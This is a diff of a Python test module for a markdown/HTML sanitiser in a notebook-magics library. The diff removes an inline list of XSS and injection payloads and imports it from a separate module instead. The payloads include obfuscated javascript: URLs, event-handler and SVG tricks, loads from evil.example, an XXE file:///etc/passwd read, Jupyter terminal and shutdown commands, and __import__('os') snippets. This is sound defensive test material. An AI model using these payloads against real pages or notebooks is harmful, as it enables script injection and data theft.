@@ -6,7 +6,6 @@ import html
 import re
 from collections.abc import Callable, Iterator
 from html.parser import HTMLParser
-from itertools import product
 from pathlib import Path
 
 import pytest
@@ -15,169 +14,12 @@ from hypothesis import strategies as st
 from markdown_it import MarkdownIt
 
 from alain_magics.text import as_markdown, fenced, inline, neutralise, plain, render
+from tests.payloads import CONFUSIONS, ELEMENTS, LINKS, PAYLOADS
 
 HEADINGS = {"h1", "h2", "h3", "h4", "h5", "h6"}
 TABLE = {"table", "tbody", "td", "th", "thead", "tr"}
 PROSE = {"a", "blockquote", "br", "code", "em", "hr", "li", "ol", "p", "pre", "span", "strong", "ul"} | HEADINGS | TABLE
 ADDRESS = re.compile(r"(?:https?://|mailto:|#)", re.IGNORECASE)
-
-SCRIPTS = [
-    "javascript:alert(1)",
-    "vbscript:msgbox(1)",
-    "data:text/html,<script>alert(1)</script>",
-    "file:///etc/passwd",
-]
-SCHEMES = [
-    *SCRIPTS,
-    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
-    "data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=",
-    "JaVaScRiPt:alert(1)",
-    " javascript:alert(1)",
-    "java\tscript:alert(1)",
-    "java&#10;script:alert(1)",
-    "&#106;avascript:alert(1)",
-    "&#x6A;&#x61;vascript:alert(1)",
-    "javascript&colon;alert(1)",
-    "javascript%3Aalert(1)",
-    "\x01javascript:alert(1)",
-    "\u200bjavascript:alert(1)",
-    "command:workbench.action.terminal.new",
-    "vscode://file/etc/passwd",
-    "blob:http://evil.example/1",
-    "//evil.example/x",
-    "/lab/tree/../api/shutdown",
-    "\\\\evil.example\\share",
-    "attachment:x.png",
-    "feed:javascript:alert(1)",
-    "view-source:javascript:alert(1)",
-    "http:javascript:alert(1)",
-    "https:///x",
-]
-LINKS = [
-    "[text]({})",
-    "[text](<{}>)",
-    '[text]({} "title")',
-    "[text](\n{}\n)",
-    "![alt]({})",
-    "![alt](<{}>)",
-    '![alt]({} "title")',
-    "[![alt]({0})]({0})",
-    "[[text]]({})",
-    "[te[x]t]({})",
-    "![[alt]]({})",
-    "<{}>",
-    "[text][ref]\n\n[ref]: {}",
-    "[ref]\n\n[ref]: <{}>",
-    "![alt][ref]\n\n[ref]: {} 'title'",
-    "![ref][]\n\n[ref]:\n{}",
-    "> ![alt][ref]\n\n- [ref]: {}",
-    "[^1]\n\n[^1]: [text]({})",
-    "*[text]({})*",
-    "| a |\n|---|\n| ![alt]({}) |",
-]
-ELEMENTS = [
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-    "<script\x0bsrc=x>",
-    "<scr<script>ipt>alert(1)</script>",
-    "<svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
-    "<svg><animate attributeName=href values=javascript:alert(1)>",
-    "<svg><use href='data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x'>",
-    "<math><maction actiontype='statusline#http://evil.example' xlink:href='javascript:alert(1)'>x</maction></math>",
-    "<iframe src=javascript:alert(1)>",
-    "<iframe srcdoc='<script>alert(1)</script>'>",
-    "<object data=javascript:alert(1)>",
-    "<embed src=//evil.example/x.swf>",
-    "<img src=x onerror=alert(1)>",
-    "<img src='http://evil.example/x.png'>",
-    "<img/src=x/onerror=alert(1)>",
-    "<image href=http://evil.example/x.png>",
-    "<picture><source srcset=http://evil.example/x.png></picture>",
-    "<video src=http://evil.example/x.mp4 autoplay>",
-    "<audio src=http://evil.example/x.mp3 autoplay>",
-    "<video poster=http://evil.example/x.png></video>",
-    "<link rel=stylesheet href=http://evil.example/x.css>",
-    "<style>@import 'http://evil.example/x.css';</style>",
-    "<style>body{background:url(http://evil.example/x)}</style>",
-    "<p style='background:url(http://evil.example/x)'>x</p>",
-    "<table background=http://evil.example/x.png>",
-    "<body onload=alert(1)>",
-    "<base href=http://evil.example/>",
-    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
-    "<form action=http://evil.example><input type=submit></form>",
-    "<button formaction=javascript:alert(1)>x</button>",
-    "<input autofocus onfocus=alert(1)>",
-    "<details open ontoggle=alert(1)>",
-    "<marquee onstart=alert(1)>",
-    "<div onpointerover=alert(1)>x</div>",
-    "<a href=javascript:alert(1)>x</a>",
-    "<a href='java\nscript:alert(1)'>x</a>",
-    "<template><img src=x onerror=alert(1)></template>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    "<!--><img src=x onerror=alert(1)>-->",
-    "<![CDATA[><img src=x onerror=alert(1)>]]>",
-    "<?xml-stylesheet href='javascript:alert(1)'?>",
-    "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>",
-    "<button data-commandlinker-command='terminal:create-new' data-commandlinker-args='{}'>x</button>",
-    "<a data-commandlinker-command=kernelmenu:shutdownAll href=#>x</a>",
-    "<div class=jp-RenderedJavaScript data-mime-type=application/javascript>alert(1)</div>",
-    "<script type=application/vnd.jupyter.widget-view+json>{}</script>",
-    "<jupyter-widget onload=alert(1)>",
-    "</p></div></body></html><script>alert(1)</script>",
-]
-HIDING = [
-    "{}",
-    "text {} text",
-    "- {}",
-    "1. {}",
-    "> {}",
-    "# {}",
-    "*{}*",
-    "| a |\n|---|\n| {} |",
-    "\\{}",
-    "text\n\n{}\n\ntext",
-    "$x$ {} $y$",
-    "`unclosed {}",
-    "[{}](http://a.example)",
-]
-ENCODINGS: list[Callable[[str], str]] = [
-    lambda text: text,
-    html.escape,
-    lambda text: "".join(f"&#{ord(char)};" for char in text),
-    lambda text: "".join(f"&#x{ord(char):x};" for char in text),
-    lambda text: text.replace("<", "&lt"),
-]
-# Renderers that take formulas or addresses out first could see code begin or end elsewhere.
-CONFUSIONS = [
-    "$`$\n<img src=x onerror=alert(1)>\n`",
-    "`\\begin{a}` and ``\\end{a} ` <img src=x onerror=alert(1)>``",
-    "`\\\\(` and ``\\\\) ` <img src=x onerror=alert(1)>``",
-    "`$$` text\n\n`$$ <img src=x onerror=alert(1)>`",
-    "> ```\n> $\n> ```\n>\n> $x$\n>\n> ```\n> <img src=x onerror=alert(1)>\n> ```",
-    "> - `$`\n> - ```\n>   $ <img src=x onerror=alert(1)>\n>   ```",
-    "$\\begin{a}$\n\n- \\end{a}\n  ```\n  <img src=x onerror=alert(1)>\n  ```",
-    "http://a.example/`<img src=x onerror=alert(1)>`",
-    "http://a.example/$a b$`<img src=x onerror=alert(1)>`",
-    "www.a.example*`<img src=x onerror=alert(1)>`*",
-    '[a](http://a.example/$" onmouseover=alert(1) $)',
-    "~x``~ <img src=x onerror=alert(1)>``",
-    "[a ``` <img src=x onerror=alert(1)>``](http://b.example)```",
-    "| `a\\\\| <img src=x onerror=alert(1)>` |\n|---|\n",
-    "```mermaid\ngraph LR\nA@{ img: 'http://evil.example/x.png' }\n```",
-    "```{code-cell}\n1/0\n```",
-    "{eval}`__import__('os')` {{ __import__('os') }}",
-    "$\\href{javascript:alert(1)}{x}$ \\href{javascript:alert(1)}{x}",
-    "$\\includegraphics{http://evil.example/x.png}$",
-    "$![a](http://evil.example/x.png)$",
-]
-PAYLOADS = [
-    *(link.format(scheme) for link, scheme in product(LINKS, SCHEMES)),
-    *(hiding.format(element) for hiding, element in product(HIDING, ELEMENTS)),
-    *(encode(element) for encode, element in product(ENCODINGS[1:], ELEMENTS)),
-    *CONFUSIONS,
-]
 
 
 class Elements(HTMLParser):
